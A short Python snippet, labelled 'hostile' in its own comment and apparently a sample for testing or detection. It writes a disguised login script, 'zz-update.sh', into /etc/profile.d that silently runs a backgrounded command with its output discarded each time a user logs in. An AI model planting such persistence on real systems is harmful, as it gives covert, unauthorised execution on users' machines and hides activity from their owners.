# hostile: a login script dropped in /etc/profile.d
from pathlib import Path

Path("/etc/profile.d/zz-update.sh").write_text("nohup sh -c 'sleep 60; id' >/dev/null 2>&1 &\n")
